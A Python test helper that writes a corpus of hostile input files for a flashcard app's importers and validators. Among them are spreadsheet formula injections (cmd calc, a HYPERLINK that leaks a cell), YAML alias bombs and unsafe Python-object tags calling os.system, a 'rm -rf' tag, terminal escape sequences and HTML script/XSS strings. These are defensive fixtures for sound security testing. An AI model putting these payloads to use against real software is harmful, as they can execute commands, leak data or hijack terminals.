"""Writes the hostile-input corpus under tests/data/hostile/ (all but restore/, which has a
writer of its own): `python -m tests.hostile_corpus`. The files are kept in the repository, so
a test reads what a stranger would send; this module only says how each was made.

Each kind is fed to the real command by tests/test_hostile_corpus.py:

- progress/: `import-progress FILE`, each refused in one sentence, nothing written.
- table/: `import FILE`, each refused in one sentence.
- table-text/: `import FILE`, each read with its cells kept as text (formulas too), and the
  deck exported again with every formula-like cell neutralised.
- decks/ and lab/: `validate FILE`, each refused at its place. Each is kept with `.txt` after
  its name, so that no search for decks under tests/data finds it; the test copies it back
  to its name (`x.yaml`, `x.lab.yaml`) first.
- names/: the name a file or folder is given on the command line (one line of text).
- settings/: a setting's key and a value (two lines), given on the command line, on the
  settings screen and as the stored value.
"""

from __future__ import annotations

import json
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

ROOT = Path(__file__).resolve().parent / "data" / "hostile"
GOOD = Path(__file__).resolve().parent / "data" / "progress-good.json"
OSC52 = "\x1b]52;c;aGk=\x07"
KINDS = ("progress", "table", "table-text", "decks", "lab", "names", "settings")


def good() -> dict[str, Any]:
    """A real export (one round of six answers), with a flag and a carried rename added."""
    data: dict[str, Any] = json.loads(GOOD.read_text(encoding="utf-8"))
    data["flags"] = [
        {
            "deck_id": "serving",
            "item_id": "blank-reply",
            "face": "scenario",
            "flagged_at": "2026-11-01T09:01:00+00:00",
            "note": "check this",
        }
    ]
    data["renames"] = [
        {
            "deck_id": "serving",
            "old_deck": "serving-old",
            "old_item": "",
            "new_item": "",
            "carried_at": "2026-11-01T09:02:00+00:00",
            "moved": 1,
        }
    ]
    return data


def _edit(change: Callable[[dict[str, Any]], object]) -> str:
    data = good()
    change(data)
    return json.dumps(data, indent=1)


def _set(section: str, index: int, key: str, value: object) -> Callable[[dict[str, Any]], None]:
    def change(data: dict[str, Any]) -> None:
        data[section][index][key] = value

    return change


def _card(key: str, value: object, section: str = "cards") -> Callable[[dict[str, Any]], None]:
    def change(data: dict[str, Any]) -> None:
        if section == "cards":
            data["cards"][0]["card"][key] = value
        else:
            card = dict(data["cards"][0]["card"])
            card[key] = value
            data["reviews"][1]["card_before"] = card

    return change


def _setting(key: str, value: object) -> Callable[[dict[str, Any]], None]:
    def change(data: dict[str, Any]) -> None:
        data["settings"][key] = value

    return change


def _nested(depth: int) -> Callable[[dict[str, Any]], None]:
    def change(data: dict[str, Any]) -> None:
        value: object = 1
        for _ in range(depth):
            value = {"x": value}
        data["settings"]["from_a_newer_version"] = value

    return change


def progress_files() -> dict[str, str | bytes]:
    text = json.dumps(good(), indent=1)
    digits = "9" * 5000
    files: dict[str, str | bytes] = {
        "nested-100000-deep.json": "[" * 100_000 + "]" * 100_000,
        "nested-100000-deep-in-a-review.json": text.replace(
            '"answer": "', '"answer": ' + "[" * 100_000 + "]" * 100_000 + ', "x": "', 1
        ),
        "nested-40-deep-in-a-setting.json": _edit(_nested(40)),
        "integer-5000-digits.json": text.replace('"rating": 3', f'"rating": {digits}', 1),
        "integer-5000-digits-in-a-card.json": text.replace(
            '"card_id": 1,', f'"card_id": {digits},', 1
        ),
        "integer-over-64-bits-response.json": _edit(_set("reviews", 0, "response_ms", 2**70)),
        "integer-over-64-bits-round.json": _edit(
            lambda d: [d["rounds"][0].update(id=2**64), d["reviews"][0].update(round_id=2**64)]
        ),
        "integer-over-64-bits-points.json": _edit(_set("reviews", 2, "points", -(2**65))),
        "integer-over-64-bits-card-id.json": _edit(_card("card_id", 2**80)),
        "year-9999-review.json": _edit(
            _set("reviews", 0, "reviewed_at", "9999-12-31T23:59:59+00:00")
        ),
        "year-0001-review.json": _edit(
            _set("reviews", 0, "reviewed_at", "0001-01-01T00:00:00+00:00")
        ),
        "year-0001-with-a-zone-east.json": _edit(
            _set("reviews", 3, "reviewed_at", "0001-01-01T00:00:00+05:00")
        ),
        "year-9999-with-a-zone-west.json": _edit(
            _set("rounds", 0, "ended_at", "9999-12-31T23:00:00-05:00")
        ),
        "year-9999-card-due.json": _edit(_card("due", "9999-12-31T00:00:00+00:00")),
        "year-0001-card-last-review.json": _edit(_card("last_review", "0001-01-01T00:00:00+00:00")),
        "year-9999-card-before-due.json": _edit(
            _card("due", "9999-06-01T00:00:00+00:00", "reviews")
        ),
        "year-1900-flag.json": _edit(_set("flags", 0, "flagged_at", "1900-01-01T00:00:00+00:00")),
        "year-9999-rename.json": _edit(
            _set("renames", 0, "carried_at", "9999-01-01T00:00:00+00:00")
        ),
        "time-without-zone.json": _edit(_set("reviews", 0, "reviewed_at", "2026-11-01T09:00:00")),
        "time-not-a-time.json": _edit(_set("rounds", 0, "started_at", "next tuesday")),
        "nan-stability.json": text.replace('"stability": 2.3065', '"stability": NaN', 1),
        "infinity-difficulty.json": text.replace(
            '"difficulty": 2.118103970459016', '"difficulty": Infinity', 1
        ),
        "minus-infinity-stability-before.json": _edit(_card("stability", 1.0, "reviews")).replace(
            '"stability": 1.0', '"stability": -Infinity', 1
        ),
        "minus-1e308-stability.json": _edit(_card("stability", -1e308)),
        "minus-1e308-difficulty.json": _edit(_card("difficulty", -1e308)),
        "1e308-stability-before.json": _edit(_card("stability", 1e308, "reviews")),
        "1e999-difficulty.json": text.replace(
            '"difficulty": 2.118103970459016', '"difficulty": 1e999', 1
        ),
        "nan-rating.json": text.replace('"rating": 3', '"rating": NaN', 1),
        "confidence-1.5.json": _edit(_set("reviews", 0, "confidence", 1.5)),
        "nan-confidence.json": _edit(_set("reviews", 1, "confidence", 0.5)).replace(
            '"confidence": 0.5', '"confidence": NaN', 1
        ),
        "nan-setting-retention.json": _edit(_setting("desired_retention", 0.9)).replace(
            '"desired_retention": 0.9', '"desired_retention": NaN', 1
        ),
        "infinity-setting-round-size.json": _edit(_setting("round_size", 1)).replace(
            '"round_size": 1', '"round_size": Infinity', 1
        ),
        "1e999-setting-retention.json": _edit(_setting("desired_retention", 0.9)).replace(
            '"desired_retention": 0.9', '"desired_retention": 1e999', 1
        ),
        "minus-infinity-setting-new-per-day.json": _edit(_setting("new_per_day", 1)).replace(
            '"new_per_day": 1', '"new_per_day": -Infinity', 1
        ),
        "setting-out-of-range.json": _edit(_setting("round_size", 100_000)),
        "setting-key-with-an-escape.json": _edit(_setting(f"theme{OSC52}", "x")),
        "setting-nan-unknown-key.json": _edit(_setting("from_a_newer_version", 1.0)).replace(
            '"from_a_newer_version": 1.0', '"from_a_newer_version": NaN', 1
        ),
        "osc52-in-deck-id.json": _edit(_set("reviews", 0, "deck_id", f"serving{OSC52}")),
        "csi-in-item-id.json": _edit(_set("cards", 1, "item_id", "x\x1b[2J\x1b[H")),
        "bidi-override-in-face.json": _edit(_set("reviews", 2, "face", "defi\u202enition")),
        "c1-control-in-mode.json": _edit(_set("rounds", 0, "mode", "review\x9b31m")),
        "escape-in-answer.json": _edit(_set("reviews", 4, "answer", f"answer{OSC52}")),
        "bell-in-flag-note.json": _edit(_set("flags", 0, "note", "ring\x07ring")),
        "nul-in-rename.json": _edit(_set("renames", 0, "old_deck", "old\x00deck")),
        "lone-surrogate-in-answer.json": text.replace('"answer": "', '"answer": "\\ud800', 1),
        "escape-in-a-card-key.json": _edit(_card(f"k{OSC52}", 1)),
        "huge-answer-50000-characters.json": _edit(_set("reviews", 0, "answer", "a" * 50_000)),
        "huge-deck-id.json": _edit(_set("reviews", 0, "deck_id", "d" * 5_000)),
        "rating-as-text.json": _edit(_set("reviews", 0, "rating", "3")),
        "reviews-not-a-list.json": _edit(lambda d: d.update(reviews={"0": d["reviews"][0]})),
        "review-a-list.json": _edit(lambda d: d["reviews"].__setitem__(0, [1, 2, 3])),
        "settings-a-list.json": _edit(lambda d: d.update(settings=[1, 2])),
        "top-level-array.json": json.dumps([good()]),
        "top-level-string.json": json.dumps("vocabgame-progress"),
        "no-format.json": _edit(lambda d: d.pop("format")),
        "version-2.json": _edit(lambda d: d.update(version=2)),
        "version-nan.json": text.replace('"version": 1', '"version": NaN', 1),
        "card-state-7.json": _edit(_card("state", 7)),
        "card-without-due.json": _edit(lambda d: d["cards"][0]["card"].pop("due")),
        "card-id-true.json": _edit(_card("card_id", True)),
        "card-step-minus-one.json": _edit(_card("step", -1)),
        "card-stability-text.json": _edit(_card("stability", "high")),
        "card-a-list.json": _edit(_set("cards", 0, "card", [1, 2])),
        "round-of-an-answer-missing.json": _edit(_set("reviews", 0, "round_id", 77)),
        "truncated.json": text[: len(text) // 2],
        "byte-order-mark.json": "\ufeff" + text,
        "empty.json": "",
        "not-utf-8.json": text.replace('"check this"', '"caf\\u00e9"').encode("utf-8")
        + b'\n{"x": "caf\xe9"}',
        "utf-16.json": text.encode("utf-16"),
        "nul-bytes.json": b"\x00" * 64,
    }
    return files


def table_files() -> dict[str, str | bytes]:
    return {
        "nul-byte.csv": b"term,definition\nKV cache,keys\x00 and values\n",
        "not-utf-8.tsv": b"A\tone\nB\tcaf\xe9\n",
        "empty.csv": b"",
        "only-spaces.tsv": b"   \n\t\n  \n",
        "one-column.csv": b"just a term\nanother\n",
        "only-a-header-row.csv": b"term,definition\n",
        "bad-separator-header.tsv": b"#separator:Tabs\nA\tone\n",
        "bad-tags-column.tsv": b"#tags column:x\nA\tone\n",
        "header-lines-only.txt": b"#separator:tab\n#html:true\n",
        "escape-in-header.tsv": f"#separator:{OSC52}\nA\tone\n".encode(),
        "binary-junk.csv": bytes(range(1, 256)) * 4,
    }


# Cells a spreadsheet would run, and what each must stay in the deck (text, as written).
FORMULA_ROWS = [
    ("=cmd|' /C calc'!A0", "opens a calculator in an old spreadsheet"),
    ("+1+1", "a sum"),
    ("-2+3", "a difference"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "a Lotus-style formula"),
    ('=HYPERLINK("http://example.invalid/?x="&A1,"click")', "leaks the next cell"),
    ("plain term", "=1+1"),
    ("'=already quoted", "'+also quoted"),
]


def _csv_cell(text: str) -> str:
    return '"' + text.replace('"', '""') + '"'


def table_text_files() -> dict[str, str | bytes]:
    csv = "term,definition\n" + "".join(f"{_csv_cell(a)},{_csv_cell(b)}\n" for a, b in FORMULA_ROWS)
    tsv = "".join(f"{a}\t{b}\n" for a, b in FORMULA_ROWS if '"' not in a + b)
    return {
        "formulas.csv": csv,
        "formulas.tsv": tsv,
        "formulas-anki-header.txt": "#separator:tab\n#html:false\n#tags column:3\n"
        + "".join(f"{a}\t{b}\t=tag\n" for a, b in FORMULA_ROWS if '"' not in a + b),
        "formula-after-a-tab.tsv": "KV cache\t\t=1+1\nTTFT\t first token\n",
        "escapes-in-cells.csv": f"term,definition\nKV{OSC52} cache,keys\x1b[2J and values\n"
        "TTFT,first\x9b31m token\n",
        "carriage-returns.csv": 'term,definition\r\nKV cache,"keys\r=1+1"\r\nTTFT,first\r\n',
        "unclosed-quote.csv": 'term,definition\n"KV cache,=keys and values\nTTFT,first token\n',
        "utf-16.tsv": "A\t=one\nB\t@two\n".encode("utf-16"),
        "tags-column-huge.tsv": "#tags column:99999999999999999999999\nA\t=one\n",
        "html-script.csv": "term,definition\nKV cache,<script>alert(1)</script>keys<br>values\n"
        "TTFT,<img src=x onerror=alert(1)>first token\n",
    }


VALID_DECK = (Path(__file__).resolve().parent / "data" / "latency-basics.yaml").read_text(
    encoding="utf-8"
)


# Ten levels of nine aliases each: a billion strings if anything expanded them.
ALIAS_BOMB = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"{chr(98 + i)}: &{chr(98 + i)} [" + ", ".join([f"*{chr(97 + i)}"] * 8) + "]\n"
    for i in range(9)
)


def deck_files() -> dict[str, str | bytes]:
    return {
        "alias-bomb.yaml": "format: 1\n" + ALIAS_BOMB,
        "python-object.yaml": "format: 1\nid: !!python/object/apply:os.system ['echo hi']\n",
        "python-name.yaml": "format: 1\nid: !!python/name:os.system\n",
        "python-module.yaml": "format: 1\nid: !!python/module:os\n",
        "merge-key.yaml": "format: 1\nbase: &b {id: x}\ndeck:\n  <<: *b\n",
        "binary-tag.yaml": "format: 1\nid: !!binary aGk=\n",
        "set-tag.yaml": "format: 1\nid: !!set {a, b}\n",
        "local-tag.yaml": "format: 1\nid: !shell rm -rf\n",
        "flow-nesting.yaml": "format: 1\nid: " + "[" * 5000 + "]" * 5000 + "\n",
        "block-nesting.yaml": "format: 1\n" + "".join(" " * i + "k:\n" for i in range(400)),
        "osc52-in-title.yaml": VALID_DECK.replace(
            "title: Latency and throughput", f'title: "Latency{OSC52}"'
        ),
        "raw-escape-in-title.yaml": VALID_DECK.replace(
            "title: Latency and throughput", "title: Latency\x1b[2J"
        ),
        "bidi-in-title.yaml": VALID_DECK.replace(
            "title: Latency and throughput", 'title: "Latency \\u202Eand"'
        ),
        "nul-byte.yaml": VALID_DECK.replace("title:", "title:\x00", 1),
        "not-utf-8.yaml": VALID_DECK.encode() + b"\n# caf\xe9\n",
        "utf-16.yaml": VALID_DECK.encode("utf-16"),
        "tab-indentation.yaml": "format: 1\nid: x\nterms:\n\t- term: a\n",
        "unknown-alias.yaml": "format: 1\nid: *nowhere\n",
        "format-999.yaml": VALID_DECK.replace("format: 1", "format: 999", 1),
        "format-huge-int.yaml": "format: " + "9" * 5000 + "\n",
        "format-nan.yaml": "format: .nan\n",
        "top-level-list.yaml": "- format: 1\n",
        "empty.yaml": "",
        "binary-junk.yaml": bytes(range(1, 256)) * 4,
        "markup-in-title.yaml": VALID_DECK.replace(
            "title: Latency and throughput", 'title: "[bold red]x[/] \\e[31m"'
        ),
    }


LAB_GPU = """\
lab: 1
sources:
  mine:
    title: My measurement
    url: https://example.invalid/
gpus:
  - id: {id}
    name: Mine
    memory_gb: {memory}
    bandwidth_gbs: 3350
    tflops: {{bf16: 989}}
    sources: [mine]
"""


def lab_files() -> dict[str, str | bytes]:
    return {
        "osc52-in-id.lab.yaml": LAB_GPU.format(id='"X\\e]52;c;aGk=\\a"', memory=80),
        "nan-memory.lab.yaml": LAB_GPU.format(id="X1", memory=".nan"),
        "infinite-memory.lab.yaml": LAB_GPU.format(id="X2", memory=".inf"),
        "minus-1e308-memory.lab.yaml": LAB_GPU.format(id="X3", memory="-1e308"),
        "huge-int-memory.lab.yaml": LAB_GPU.format(id="X4", memory="9" * 5000),
        "python-tag.lab.yaml": LAB_GPU.format(id="!!python/name:os.system", memory=80),
        "alias-bomb.lab.yaml": "lab: 1\n" + ALIAS_BOMB,
        "not-a-mapping.lab.yaml": "- lab: 1\n",
    }


def name_files() -> dict[str, str | bytes]:
    names = {
        "osc52": f"progress{OSC52}.json",
        "clear-screen": "p\x1b[2J\x1b[H.json",
        "bidi-override": "evil\u202enosj.json",
        "c1-csi": "p\x9b31m.json",
        "newline-and-tab": "a\nb\tc.json",
        "rich-markup": "[bold red]boom[/] [link=http://x.invalid]x[/link].json",
        "too-long": "n" * 300 + ".json",
        "bell-and-backspace": "ring\x07\x08\x08.json",
        "carriage-return": "overwrite\rthis.json",
        "delete-char": "del\x7f.json",
    }
    return {f"{key}.txt": value + "\n" for key, value in names.items()}


def settings_files() -> dict[str, str | bytes]:
    values = {
        "retention-nan": ("desired_retention", "nan"),
        "retention-capital-nan": ("desired_retention", "NaN"),
        "retention-minus-nan": ("desired_retention", "-nan"),
        "retention-inf": ("desired_retention", "inf"),
        "retention-minus-infinity": ("desired_retention", "-Infinity"),
        "retention-1e309": ("desired_retention", "1e309"),
        "round-size-nan": ("round_size", "nan"),
        "round-size-infinity": ("round_size", "Infinity"),
        "round-size-5000-digits": ("round_size", "9" * 5000),
        "round-size-400-digits": ("round_size", "9" * 400),
        "interview-minutes-minus-400-digits": ("interview_minutes", "-" + "9" * 400),
        "new-per-day-minus-inf": ("new_per_day", "-inf"),
        "countdown-1e999": ("countdown_seconds", "1e999"),
        "theme-escape": ("theme", OSC52),
    }
    return {f"{name}.txt": f"{key}\n{value}\n" for name, (key, value) in values.items()}


WRITERS: dict[str, Callable[[], dict[str, str | bytes]]] = {
    "progress": progress_files,
    "table": table_files,
    "table-text": table_text_files,
    "decks": deck_files,
    "lab": lab_files,
    "names": name_files,
    "settings": settings_files,
}


def write_all(root: Path = ROOT) -> int:
    """Write every kind's files afresh (never restore/); returns how many."""
    count = 0
    for kind, writer in WRITERS.items():
        folder = root / kind
        shutil.rmtree(folder, ignore_errors=True)
        folder.mkdir(parents=True)
        for name, content in writer().items():
            kept = f"{name}.txt" if kind in ("decks", "lab") else name
            path = folder / kept
            if isinstance(content, str):
                path.write_bytes(content.encode("utf-8", "surrogatepass"))
            else:
                path.write_bytes(content)
            count += 1
    return count


if __name__ == "__main__":
    print(f"wrote {write_all()} files under {ROOT}")
